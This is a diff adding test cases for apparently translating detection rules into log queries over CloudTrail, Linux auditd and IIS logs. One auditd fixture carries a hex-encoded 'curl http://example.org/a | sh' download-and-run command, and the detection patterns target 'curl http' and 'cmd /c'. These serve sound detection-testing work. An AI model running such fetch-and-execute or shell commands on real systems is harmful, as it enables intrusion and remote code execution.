@@ -198,6 +198,60 @@ const cases: readonly Case[] = [
     hit: { EventName: 'DeleteCluster', ErrorCode: '' },
     miss: { EventName: 'DeleteCluster', ErrorCode: 'AccessDenied' },
   },
+  {
+    name: 'a failed ConsoleLogin has a message and no code (Azure-Sentinel, Sample Data/ASIM/AWS_CloudTrail_Authentication)',
+    logsource: { product: 'aws', service: 'cloudtrail' },
+    detection: `selection: { eventName: ConsoleLogin, status: failure }`,
+    table: 'AWSCloudTrail',
+    hit: { EventName: 'ConsoleLogin', ErrorCode: '', ErrorMessage: 'Failed authentication' },
+    miss: { EventName: 'ConsoleLogin', ErrorCode: '', ErrorMessage: '' },
+  },
+  {
+    name: 'a policy is JSON within JSON (AWS CloudTrail, PutUserPolicy; the sample data have \\u0026 for an ampersand)',
+    logsource: { product: 'aws', service: 'cloudtrail' },
+    detection: `
+      selection:
+        requestParameters|contains|all: ['"arn:aws:s3:::<BUCKET>/*"', '"Allow"', 'a&b', '\\"Sid\\"']`,
+    table: 'AWSCloudTrail',
+    hit: {
+      RequestParameters: JSON.stringify({
+        policyDocument: '{"Sid":"a&b","Effect":"Allow","Resource":"arn:aws:s3:::<BUCKET>/*"}',
+      })
+        .replaceAll('&', '\\u0026')
+        .replaceAll('<', '\\u003c')
+        .replaceAll('>', '\\u003e'),
+    },
+    miss: { RequestParameters: '{"policyDocument":"{\\"Sid\\":\\"a&b\\",\\"Effect\\":\\"Deny\\"}"}' },
+  },
+  {
+    name: 'an argument with a blank is in hexadecimal (Linux, kernel/audit.c, audit_log_untrustedstring)',
+    logsource: { product: 'linux', service: 'auditd' },
+    detection: `selection: { type: EXECVE, a0: bash, a2|contains: 'curl http' }`,
+    table: 'Syslog',
+    hit: {
+      SyslogMessage:
+        'type=EXECVE msg=audit(1.2:3): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F6578616D706C652E6F72672F61207C207368',
+    },
+    miss: { SyslogMessage: 'type=EXECVE msg=audit(1.2:3): argc=3 a0="bash" a1="-c" a2="6375726C2068747470"' },
+  },
+  {
+    name: 'the arguments of a system call are numbers (Linux, kernel/auditsc.c, audit_log_exit)',
+    logsource: { product: 'linux', service: 'auditd' },
+    detection: `selection: { type: SYSCALL, a1: '41', comm: 'a b' }`,
+    table: 'Syslog',
+    hit: {
+      SyslogMessage: 'type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=103 a0=5 a1=41 comm=612062 exe="/bin/a"',
+    },
+    miss: { SyslogMessage: 'type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=103 a0=5 a1=41 comm="612062"' },
+  },
+  {
+    name: 'IIS writes a plus sign for a blank (W3C, extended log format: fields have no blanks)',
+    logsource: { category: 'webserver' },
+    detection: `selection: { cs-uri-stem: /a b.aspx, cs-uri-query|contains: 'cmd /c' }`,
+    table: 'W3CIISLog',
+    hit: { csUriStem: '/a+b.aspx', csUriQuery: 'x=cmd+/c' },
+    miss: { csUriStem: '/ab.aspx', csUriQuery: 'x=cmd+/c' },
+  },
 ];
 
 test.each(cases)(
